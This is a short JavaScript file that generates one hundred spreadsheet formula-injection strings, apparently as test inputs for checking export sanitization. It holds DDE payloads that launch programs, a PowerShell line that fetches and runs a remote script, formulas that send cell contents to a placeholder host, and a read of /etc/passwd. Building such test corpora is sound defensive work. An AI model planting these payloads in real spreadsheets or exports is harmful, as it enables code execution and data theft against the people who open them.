/** One hundred texts that some spreadsheet program would calculate, start or fetch, were they taken for formulas. */

const payloads = [
  "cmd|' /C calc'!A0", "cmd|'/c powershell IEX(wget 0.0.0.0/p)'!A0", "MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
  'HYPERLINK("http://example.invalid?x="&A1,"点击")', 'IMPORTXML("http://example.invalid","//a")', 'WEBSERVICE("http://example.invalid")',
  '1+1', 'SUM(A1:A9)', "'file:///etc/passwd'#$passwd.A1", 'DDE("cmd";"/C calc";"A0")',
]
const starts = ['=', '+', '-', '@', '\t=', ' =', '=-', '+=', '＝', "'="]

export const injectionTexts = starts.flatMap((start) => payloads.map((payload) => start + payload))
